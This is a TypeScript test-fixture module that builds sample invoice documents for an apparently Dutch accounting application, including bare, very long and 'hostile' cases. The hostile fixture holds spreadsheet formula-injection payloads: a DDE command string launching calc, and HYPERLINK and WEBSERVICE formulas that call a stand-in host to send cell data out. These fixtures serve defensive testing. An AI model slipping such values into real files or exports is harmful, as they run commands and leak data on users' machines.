import { sampleCompany } from "#modules/settings/sample.ts"
import { sum } from "#src/shared/rounding.ts"
import { centsOfLine, type SampleInvoice, sumsOf } from "../sample/invoice.ts"
import { sampleInvoices } from "../sample.ts"
import type { InvoiceDocument } from "./document.ts"

const samples = sampleInvoices("2026-11-05", sampleCompany).map(({ invoice }) => invoice)

/** The document of a sample invoice, as a person posted it. */
export function documentOf(invoice: SampleInvoice, changes: Partial<InvoiceDocument> = {}): InvoiceDocument {
  const { supplier, kind, number, date, reverseCharge, orderReference } = invoice
  const { vat, netCents, vatCents, totalCents, blockedCents } = sumsOf(invoice)
  return {
    company: sampleCompany,
    ...{ kind, supplier: supplier.name, invoiceNumber: number, date, dueDate: "2026-12-05", currency: "EUR" },
    ...{ netCents, vatCents, totalCents, payableCents: totalCents, reverseCharge, vat },
    linesIncludeVat: kind === "receipt",
    lines: invoice.lines.map((line) => ({
      ...{ description: line.description, quantity: line.quantity, unit: line.unit },
      ...{ unitPrice: line.price, cents: centsOfLine(line), vatRate: line.rate },
    })),
    ...{ iban: supplier.iban, blockedIban: supplier.blockedIban, blockedCents },
    ...{ btwId: supplier.btwId, kvk: supplier.kvk, orderReference, projectReference: "" },
    fileName: "factuur.pdf",
    posted: { by: "Annelies Kloet", at: "2026-11-05T10:00:00.000Z" },
    ...changes,
  }
}

const named = (matches: (invoice: SampleInvoice) => boolean) => samples.find(matches)!

export const ordinary = documentOf(named(({ lines }) => lines.length > 3))
export const shifted = documentOf(named(({ blockedPercent }) => blockedPercent > 0))
export const credit = documentOf(named(({ kind }) => kind === "credit"))
export const receipt = documentOf(named(({ kind }) => kind === "receipt"))
export const twoRates = documentOf(
  named(({ kind, lines }) => kind === "invoice" && lines.some((line) => line.rate === 9)),
)

/** Read, but hardly anything of it. */
export const bare: InvoiceDocument = {
  ...ordinary,
  ...{
    supplier: "",
    invoiceNumber: "",
    date: "",
    dueDate: "",
    netCents: null,
    vatCents: null,
    payableCents: null,
  },
  ...{ vat: [], lines: [], iban: "", btwId: "", kvk: "", orderReference: "", posted: null },
}

/** 300 lines of three rates of which the supplier's own sums are a cent off. */
export const long: InvoiceDocument = (() => {
  const lines = Array.from({ length: 300 }, (_, i) => ({
    description:
      i % 7 === 0
        ? `Regel ${i + 1} met een omschrijving die over meer dan een regel loopt omdat de leverancier alles opschrijft`
        : `Regel ${i + 1}`,
    ...{
      quantity: (i % 9) + 0.5,
      unit: "st",
      unitPrice: 1.005 * (i + 1),
      cents: Math.round(((i % 9) + 0.5) * 100.5 * (i + 1)),
    },
    vatRate: [21, 9, 0][i % 3]!,
  }))
  const net = sum(lines.map(({ cents }) => cents))
  return {
    ...ordinary,
    lines,
    vat: [],
    netCents: net,
    vatCents: 1,
    totalCents: net + 1,
    payableCents: net + 1,
  }
})()

export const hostile: InvoiceDocument = {
  ...ordinary,
  ...{
    supplier: `=HYPERLINK("http://kwaad.example","Klik") \u202e\u0007`,
    invoiceNumber: "+1+cmd|' /C calc'!A0",
  },
  ...{
    orderReference: "@SUM(A1:A9)",
    projectReference: "-2+3",
    fileName: "<b>&\u0000'.pdf",
    currency: "GBP",
  },
  lines: [
    {
      description: `=WEBSERVICE("http://kwaad.example/"&A1)\u0001\ud800`,
      ...{ quantity: null, unit: "=1", unitPrice: null, cents: 100, vatRate: null },
    },
    {
      description: "]]><w:p>&amp;".repeat(2000),
      ...{ quantity: 1e9, unit: "x".repeat(20), unitPrice: 1e-7, cents: -1, vatRate: 21 },
    },
  ],
}
